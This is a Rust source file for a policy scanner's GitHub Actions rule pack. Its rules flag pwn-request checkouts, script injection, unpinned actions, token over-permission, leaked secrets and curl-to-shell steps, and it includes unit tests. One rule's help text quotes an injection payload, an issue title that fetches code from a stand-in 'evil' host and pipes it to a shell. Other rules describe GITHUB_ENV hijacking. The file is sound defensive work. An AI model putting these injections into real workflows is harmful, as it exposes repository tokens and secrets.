//! Built-in pack `github-actions`: workflows and composite actions that
//! run attacker-controlled code or text with the repository's token and
//! secrets, and supply-chain gaps in the actions they use.
//!
//! Rules read `github-actions` resources (`docs/kinds/github-actions.md`):
//! a workflow (`on`, `permissions`, `jobs`) or an action (`runs`) as
//! written. Fixtures live in `fixtures/<RULE-ID>/{positive,negative}.yml`.

mod hardening;

use rampart_policy::helpers::{follows_latest, pipes_download_to_shell};
use rampart_policy::{Context, Node, Pack, Resource, Rule, Severity};

const KINDS: &[&str] = &["github-actions"];

/// The pack, exported as the component's `rampart:policy/pack`.
pub static PACK: Pack = Pack {
    name: "github-actions",
    version: env!("CARGO_PKG_VERSION"),
    description: "GitHub Actions: untrusted input in privileged workflows, script injection, \
                  token permissions, secrets handed out too widely, spoofable conditions, \
                  runners, archived actions and pinning of actions and images.",
    rules: &[
        GHA_001,
        GHA_002,
        GHA_003,
        GHA_004,
        GHA_005,
        GHA_006,
        GHA_007,
        GHA_008,
        GHA_009,
        GHA_010,
        GHA_011,
        GHA_012,
        hardening::GHA_013,
        hardening::GHA_014,
        hardening::GHA_015,
        hardening::GHA_016,
        hardening::GHA_017,
        hardening::GHA_018,
        hardening::GHA_019,
        hardening::GHA_020,
        hardening::GHA_021,
        hardening::GHA_022,
        hardening::GHA_023,
        hardening::GHA_024,
        hardening::GHA_025,
        hardening::GHA_026,
        hardening::GHA_027,
        hardening::GHA_028,
        hardening::GHA_029,
        hardening::GHA_030,
    ],
};

rampart_policy::export_pack!(PACK);

/// Every step of a workflow's jobs, or of a composite action.
fn steps<'a>(resource: &'a Resource) -> Vec<Node<'a>> {
    let root = resource.root();
    let mut out: Vec<Node<'a>> = root.get("runs").get("steps").items().collect();
    for (_, job) in root.get("jobs").entries() {
        out.extend(job.get("steps").items());
    }
    out
}

/// The events that trigger the workflow: `on: push`, `on: [push, pull_request]`
/// or `on: {push: …}`.
fn triggers(resource: &Resource) -> Vec<String> {
    let on = resource.root().get("on");
    if let Some(single) = on.as_str() {
        return vec![single.to_owned()];
    }
    if on.is_array() {
        return on
            .items()
            .filter_map(|e| e.as_str().map(str::to_owned))
            .collect();
    }
    on.entries().map(|(name, _)| name.to_owned()).collect()
}

/// The `${{ … }}` expressions of a text.
fn expressions(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("${{") {
        let after = &rest[start + 3..];
        let Some(end) = after.find("}}") else {
            break;
        };
        out.push(after[..end].trim());
        rest = &after[end + 2..];
    }
    out
}

/// Fields of the event payload that whoever opens an issue, a pull
/// request, a comment or pushes a branch chooses freely.
const UNTRUSTED_FIELDS: &[&str] = &[
    "title",
    "body",
    "label",
    "default_branch",
    "page_name",
    "message",
    "email",
    "name",
    "head_branch",
];

/// Whether an expression reads attacker-controlled event data.
fn untrusted(expression: &str) -> bool {
    if expression.contains("github.head_ref") {
        return true;
    }
    expression
        .split(|c: char| !(c.is_ascii_alphanumeric() || "._*-[]".contains(c)))
        .filter(|path| path.starts_with("github.event."))
        .any(|path| {
            let last = path.rsplit('.').next().unwrap_or("");
            UNTRUSTED_FIELDS.contains(&last) || path.ends_with(".head.ref")
        })
}

pub(crate) const GHA_001: Rule = Rule {
    id: "GHA-001",
    title: "pull_request_target checks out the pull request's code",
    description: "A workflow triggered by `pull_request_target` or `workflow_run` checks out \
                      the head of the pull request, then runs in the base repository's context.",
    severity: Severity::Critical,
    help: "Those triggers get a write token and the secrets; the checked-out code (build scripts, \
               tests, package hooks) is the attacker's.",
    help_uri: Some(
        "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
    ),
    remediation: "Build untrusted code in a `pull_request` workflow without secrets; pass results \
                      to a privileged workflow as artifacts and treat them as data.",
    tags: &["security", "ci"],
    compliance: &[],
    kinds: KINDS,
    equivalents: &[],
    check: pwn_request,
};

fn pwn_request(resource: &Resource, cx: &mut Context<'_>) {
    let privileged = triggers(resource)
        .iter()
        .any(|t| t == "pull_request_target" || t == "workflow_run");
    if !privileged {
        return;
    }
    for step in steps(resource) {
        let uses = step.get("uses").as_str().unwrap_or("");
        if !uses.starts_with("actions/checkout@") {
            continue;
        }
        let reference = step.get("with").get("ref");
        let Some(text) = reference.as_str() else {
            continue;
        };
        let head = expressions(text).iter().any(|e| {
            e.contains("github.event.pull_request.head")
                || e.contains("github.head_ref")
                || e.contains("github.event.workflow_run.head")
                || e.contains("refs/pull/")
        }) || text.contains("refs/pull/");
        if head {
            cx.report(
                &reference,
                format!("checks out the pull request's code (`{text}`) in a privileged workflow"),
            );
        }
    }
}

/// The script texts of a step that expand expressions before running:
/// `run`, and `with.script` of `actions/github-script`.
fn scripts<'a>(step: &Node<'a>) -> Vec<Node<'a>> {
    let mut out = Vec::new();
    let run = step.get("run");
    if run.as_str().is_some() {
        out.push(run);
    }
    if step
        .get("uses")
        .as_str()
        .is_some_and(|u| u.starts_with("actions/github-script@"))
    {
        let script = step.get("with").get("script");
        if script.as_str().is_some() {
            out.push(script);
        }
    }
    out
}

pub(crate) const GHA_002: Rule = Rule {
    id: "GHA-002",
    title: "Script injection from untrusted event data",
    description: "A `run:` script (or `actions/github-script`) expands `${{ github.event… }}` \
                      fields an outsider controls: titles, bodies, branch names, commit messages.",
    severity: Severity::High,
    help: "The expression is pasted into the script before the shell runs it: a title like \
               `\"; curl evil | sh #` is code.",
    help_uri: Some(
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
    ),
    remediation: "Pass the value through `env:` (`TITLE: ${{ github.event.issue.title }}`) and use \
                      `\"$TITLE\"` in the script.",
    tags: &["security", "ci"],
    compliance: &[],
    kinds: KINDS,
    equivalents: &["checkov:CKV_GHA_2"],
    check: script_injection,
};

fn script_injection(resource: &Resource, cx: &mut Context<'_>) {
    for step in steps(resource) {
        for script in scripts(&step) {
            let text = script.as_str().unwrap_or("");
            let found: Vec<&str> = expressions(text)
                .into_iter()
                .filter(|e| untrusted(e))
                .collect();
            if let Some(first) = found.first() {
                cx.report(
                    &script,
                    format!("the script expands `${{{{ {first} }}}}`, which an outsider controls"),
                )
                .fix("move the expression to `env:` and use the variable, quoted, in the script");
            }
        }
    }
}

fn is_full_sha(reference: &str) -> bool {
    reference.len() == 40 && reference.bytes().all(|b| b.is_ascii_hexdigit())
}

pub(crate) const GHA_003: Rule = Rule {
    id: "GHA-003",
    title: "Third-party action not pinned to a commit SHA",
    description: "`uses: owner/action@v2` (a tag or branch) for an action outside `actions/` and \
                      `github/`.",
    severity: Severity::Medium,
    help: "Tags move: whoever controls the action's repository controls what your job runs, \
               with your token and secrets (tj-actions/changed-files, March 2025).",
    help_uri: Some(
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions",
    ),
    remediation: "Pin the full 40-character commit SHA (`uses: owner/action@<sha> # v2.1.0`) and \
                      let Dependabot update it.",
    tags: &["supply-chain", "ci"],
    compliance: &[],
    kinds: KINDS,
    equivalents: &[],
    check: unpinned_action,
};

/// Every `uses:` of the file: steps' actions, and jobs' reusable
/// workflows (`jobs.<id>.uses: owner/repo/.github/workflows/x.yml@ref`).
fn every_uses(resource: &Resource) -> Vec<Node<'_>> {
    let mut out: Vec<Node<'_>> = steps(resource).iter().map(|s| s.get("uses")).collect();
    out.extend(
        resource
            .root()
            .get("jobs")
            .entries()
            .map(|(_, job)| job.get("uses")),
    );
    out
}

fn unpinned_action(resource: &Resource, cx: &mut Context<'_>) {
    for uses in every_uses(resource) {
        let Some(text) = uses.as_str() else {
            continue;
        };
        if text.starts_with("./") || text.starts_with("docker://") {
            continue;
        }
        let Some((action, reference)) = text.split_once('@') else {
            continue;
        };
        let owner = action.split('/').next().unwrap_or("");
        if owner == "actions" || owner == "github" || is_full_sha(reference) {
            continue;
        }
        cx.report(&uses, format!("`{text}` is not pinned to a commit SHA"))
            .fix(format!(
                "`uses: {action}@<40-character commit SHA> # {reference}`"
            ));
    }
}

pub(crate) const GHA_004: Rule = Rule {
    id: "GHA-004",
    title: "Token granted write-all",
    description: "`permissions: write-all` gives the job's GITHUB_TOKEN write access to every scope.",
    severity: Severity::High,
    help: "Any step that is compromised can push code, publish releases and change settings.",
    help_uri: None,
    remediation: "Grant the scopes the job needs: `permissions: {contents: read, pull-requests: write}`.",
    tags: &["security", "ci"],
    compliance: &[],
    kinds: KINDS,
    equivalents: &["checkov:CKV2_GHA_1"],
    check: write_all,
};

fn write_all(resource: &Resource, cx: &mut Context<'_>) {
    let root = resource.root();
    let mut candidates = vec![root.get("permissions")];
    for (_, job) in root.get("jobs").entries() {
        candidates.push(job.get("permissions"));
    }
    for permissions in candidates {
        if permissions.as_str() == Some("write-all") {
            cx.report(&permissions, "the token gets `write-all`")
                .fix("list the scopes the job needs, e.g. `permissions: {contents: read}`");
        }
    }
}

pub(crate) const GHA_005: Rule = Rule {
    id: "GHA-005",
    title: "Token permissions not set",
    description: "Neither the workflow nor the job sets `permissions`, so the token gets the \
                      repository's default, which is write for older repositories and organisations.",
    severity: Severity::Low,
    help: "Least privilege has to be written down to hold when the default changes.",
    help_uri: None,
    remediation: "Add `permissions: {contents: read}` at the top of the workflow and widen per job.",
    tags: &["security", "ci"],
    compliance: &[],
    kinds: KINDS,
    equivalents: &[],
    check: missing_permissions,
};

fn missing_permissions(resource: &Resource, cx: &mut Context<'_>) {
    let root = resource.root();
    if root.get("permissions").exists() || !root.get("jobs").exists() {
        return;
    }
    for (name, job) in root.get("jobs").entries() {
        // A job that calls a reusable workflow gets its permissions there.
        if !job.get("permissions").exists() && !job.get("uses").exists() {
            cx.report(
                &job,
                format!("job `{name}` runs with the default token permissions"),
            )
            .fix("add `permissions: {contents: read}` to the workflow");
        }
    }
}

/// Commands that print their arguments.
const PRINTERS: &[&str] = &[
    "echo",
    "printf",
    "print",
    "Write-Host",
    "Write-Output",
    "cat <<",
];

pub(crate) const GHA_006: Rule = Rule {
    id: "GHA-006",
    title: "Secret printed in a script",
    description: "A `run:` script echoes or prints `${{ secrets.… }}`.",
    severity: Severity::High,
    help: "Masking is best effort: transformed, split or encoded values end up readable in the log.",
    help_uri: None,
    remediation: "Never print secrets; pass them through `env:` to the program that needs them.",
    tags: &["security", "secrets", "ci"],
    compliance: &[],
    kinds: KINDS,
    equivalents: &[],
    check: secret_printed,
};

fn secret_printed(resource: &Resource, cx: &mut Context<'_>) {
    for step in steps(resource) {
        let run = step.get("run");
        let Some(text) = run.as_str() else {
            continue;
        };
        let leaks = text.lines().any(|line| {
            let line = line.trim_start();
            PRINTERS.iter().any(|p| line.starts_with(p))
                && expressions(line).iter().any(|e| e.contains("secrets."))
        });
        if leaks {
            cx.report(&run, "the script prints a secret");
        }
    }
}

/// Events an outsider can cause on a public repository.
const PUBLIC_TRIGGERS: &[&str] = &[
    "pull_request",
    "pull_request_target",
    "pull_request_review",
    "pull_request_review_comment",
    "issue_comment",
    "issues",
    "discussion",
    "discussion_comment",
    "fork",
    "watch",
];

pub(crate) const GHA_007: Rule = Rule {
    id: "GHA-007",
    title: "Self-hosted runner on a public trigger",
    description: "A job runs on a `self-hosted` runner in a workflow that pull requests, forks or \
                      comments can trigger.",
    severity: Severity::High,
    help: "Self-hosted runners persist between jobs: a fork's pull request can plant code for the \
               next, privileged job.",
    help_uri: None,
    remediation: "Use GitHub-hosted or ephemeral, isolated runners for public triggers.",
    tags: &["security", "ci"],
    compliance: &[],
    kinds: KINDS,
    equivalents: &[],
    check: self_hosted_public,
};

fn self_hosted_public(resource: &Resource, cx: &mut Context<'_>) {
    if !triggers(resource)
        .iter()
        .any(|t| PUBLIC_TRIGGERS.contains(&t.as_str()))
    {
        return;
    }
    for (name, job) in resource.root().get("jobs").entries() {
        let runs_on = job.get("runs-on");
        let labels: Vec<&str> = if let Some(label) = runs_on.as_str() {
            vec![label]
        } else if runs_on.is_array() {
            runs_on.items().filter_map(|l| l.as_str()).collect()
        } else {
            runs_on
                .get("labels")
                .items()
                .filter_map(|l| l.as_str())
                .collect()
        };
        if labels.contains(&"self-hosted") {
            cx.report(
                &runs_on,
                format!(
                    "job `{name}` runs on a self-hosted runner and pull requests can trigger it"
                ),
            );
        }
    }
}

pub(crate) const GHA_008: Rule = Rule {
    id: "GHA-008",
    title: "Untrusted data written to GITHUB_ENV or GITHUB_PATH",
    description: "A script appends event data (`${{ github.event… }}`, `github.head_ref`) to \
                      `$GITHUB_ENV` or `$GITHUB_PATH`.",
    severity: Severity::High,
    help: "A value with a newline defines any variable for later steps (`LD_PRELOAD`, `NODE_OPTIONS`) \
               or puts the attacker's directory first on PATH.",
    help_uri: None,
    remediation: "Validate the value, or pass it as a step output instead of an environment variable.",
    tags: &["security", "ci"],
    compliance: &[],
    kinds: KINDS,
    equivalents: &[],
    check: env_file_injection,
};

fn env_file_injection(resource: &Resource, cx: &mut Context<'_>) {
    for step in steps(resource) {
        let run = step.get("run");
        let Some(text) = run.as_str() else {
            continue;
        };
        let writes = text.lines().any(|line| {
            (line.contains("GITHUB_ENV") || line.contains("GITHUB_PATH"))
                && expressions(line).iter().any(|e| untrusted(e))
        });
        if writes {
            cx.report(
                &run,
                "the script writes event data to GITHUB_ENV or GITHUB_PATH",
            );
        }
    }
}

pub(crate) const GHA_009: Rule = Rule {
    id: "GHA-009",
    title: "Unsafe workflow commands re-enabled",
    description: "`ACTIONS_ALLOW_UNSECURE_COMMANDS: true` re-enables the deprecated `set-env` and \
                      `add-path` log commands.",
    severity: Severity::High,
    help: "Any process that prints to the log can then set environment variables of later steps.",
    help_uri: None,
    remediation: "Remove the variable; write to `$GITHUB_ENV` / `$GITHUB_PATH` instead.",
    tags: &["security", "ci"],
    compliance: &[],
    kinds: KINDS,
    equivalents: &["checkov:CKV_GHA_1"],
    check: unsecure_commands,
};

fn unsecure_commands(resource: &Resource, cx: &mut Context<'_>) {
    let root = resource.root();
    let mut envs = vec![root.get("env")];
    for (_, job) in root.get("jobs").entries() {
        envs.push(job.get("env"));
    }
    envs.extend(steps(resource).iter().map(|s| s.get("env")));
    for env in envs {
        let flag = env.get("ACTIONS_ALLOW_UNSECURE_COMMANDS");
        let on = flag.is_true()
            || flag
                .as_str()
                .is_some_and(|v| v.eq_ignore_ascii_case("true"));
        if on {
            cx.report(
                &flag,
                "ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables set-env and add-path",
            );
        }
    }
}

pub(crate) const GHA_010: Rule = Rule {
    id: "GHA-010",
    title: "Remote script piped to a shell",
    description: "A `run:` script downloads with curl or wget and pipes it into a shell.",
    severity: Severity::Medium,
    help: "Whatever the server returns runs with the job's token and secrets; nothing verifies it.",
    help_uri: None,
    remediation: "Download to a file, verify its checksum or signature, then run it — or use a pinned action.",
    tags: &["supply-chain", "ci"],
    compliance: &[],
    kinds: KINDS,
    equivalents: &[],
    check: curl_pipe_shell,
};

fn curl_pipe_shell(resource: &Resource, cx: &mut Context<'_>) {
    for step in steps(resource) {
        let run = step.get("run");
        let Some(text) = run.as_str() else {
            continue;
        };
        let piped = pipes_download_to_shell(text);
        if piped {
            cx.report(&run, "the script pipes a download into a shell");
        }
    }
}

pub(crate) const GHA_011: Rule = Rule {
    id: "GHA-011",
    title: "Container image not pinned",
    description: "A job's `container` or `services` image, or a `docker://` action, uses no tag \
                      or `latest`.",
    severity: Severity::Medium,
    help: "The job runs whatever was pushed last under that name.",
    help_uri: None,
    remediation: "Pin a version tag, better a digest.",
    tags: &["supply-chain", "ci"],
    compliance: &[],
    kinds: KINDS,
    equivalents: &[],
    check: unpinned_image,
};

fn unpinned_image(resource: &Resource, cx: &mut Context<'_>) {
    let mut images: Vec<Node<'_>> = Vec::new();
    for (_, job) in resource.root().get("jobs").entries() {
        let container = job.get("container");
        images.push(if container.as_str().is_some() {
            container.clone()
        } else {
            container.get("image")
        });
        for (_, service) in job.get("services").entries() {
            images.push(service.get("image"));
        }
    }
    for step in steps(resource) {
        let uses = step.get("uses");
        if uses.as_str().is_some_and(|u| u.starts_with("docker://")) {
            images.push(uses);
        }
    }
    for image in images {
        let Some(text) = image.as_str() else {
            continue;
        };
        let reference = text.strip_prefix("docker://").unwrap_or(text);
        if !reference.contains("${{") && follows_latest(reference) {
            cx.report(&image, format!("image `{reference}` follows latest"));
        }
    }
}

pub(crate) const GHA_012: Rule = Rule {
    id: "GHA-012",
    title: "Checkout persists the token",
    description: "`actions/checkout` without `persist-credentials: false` leaves the GITHUB_TOKEN in \
                      `.git/config` for every later step.",
    severity: Severity::Low,
    help: "Later steps, and artifacts that include the workspace, can read and reuse the token.",
    help_uri: Some("https://github.com/actions/checkout/issues/485"),
    remediation: "Set `with: {persist-credentials: false}` unless a later step pushes.",
    tags: &["security", "ci"],
    compliance: &[],
    kinds: KINDS,
    equivalents: &[],
    check: persisted_credentials,
};

fn persisted_credentials(resource: &Resource, cx: &mut Context<'_>) {
    for step in steps(resource) {
        let uses = step.get("uses");
        if !uses
            .as_str()
            .is_some_and(|u| u.starts_with("actions/checkout@"))
        {
            continue;
        }
        let persist = step.get("with").get("persist-credentials");
        let off = persist.as_bool() == Some(false) || persist.as_str() == Some("false");
        if !off {
            cx.report(&uses, "checkout leaves the token in .git/config")
                .fix("add `with: {persist-credentials: false}`");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn untrusted_expressions() {
        for e in [
            "github.event.issue.title",
            "github.event.pull_request.body",
            "github.head_ref",
            "github.event.pull_request.head.ref",
            "github.event.commits[0].message",
            "format('{0}', github.event.comment.body)",
        ] {
            assert!(untrusted(e), "{e}");
        }
        for e in [
            "github.event.pull_request.number",
            "github.sha",
            "secrets.TOKEN",
            "github.event.pull_request.head.sha",
        ] {
            assert!(!untrusted(e), "{e}");
        }
    }

    #[test]
    fn expressions_are_found() {
        assert_eq!(expressions("a ${{ x }} b ${{y}} ${{ broken"), ["x", "y"]);
    }
}
